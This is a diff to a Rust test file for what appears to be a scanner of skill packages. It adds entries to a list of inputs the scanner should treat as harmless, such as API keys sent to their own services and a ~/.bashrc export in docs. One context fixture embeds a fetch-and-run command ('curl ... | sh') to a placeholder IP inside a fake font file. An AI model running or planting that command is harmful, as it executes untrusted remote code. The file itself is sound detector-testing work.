@@ -30,5 +30,7 @@ pub static BENIGN: &[Benign] = &[
     ("aws-cli-reads-creds", &[("references/aws.md", b"The AWS CLI reads keys from ~/.aws/credentials.\n")]),
     ("ssh-copy-id", &[("SKILL.md", b"---\nname: n\ndescription: d\n---\nRun `ssh-copy-id user@server` to log in without a password.\n")]),
     ("nul-in-binary-font", &[("assets/font.woff2", b"wOF2\0\x01\0\0curl http://203.0.113.7/x | sh")]),
+    ("api-key-to-its-own-api", &[("scripts/steam.sh", b"curl -s \"https://api.steampowered.com/IEcon/v1/?key=$STEAM_API_KEY\"\ncurl -s \"$WALLABAG_URL/oauth/v2/token\" --data-urlencode \"client_secret=${WALLABAG_CLIENT_SECRET}\"\n")]),
+    ("bashrc-export-in-docs", &[("SKILL.md", b"---\nname: n\ndescription: d\n---\n```bash\necho 'export SECTORS_API_KEY=\"your-key\"' >> ~/.bashrc\n```\n")]),
     ("heading-system-prompt", &[("SKILL.md", b"---\nname: n\ndescription: d\n---\n# System Prompt Guide\nThe system prompt is built from the listing.\n")]),
 ];
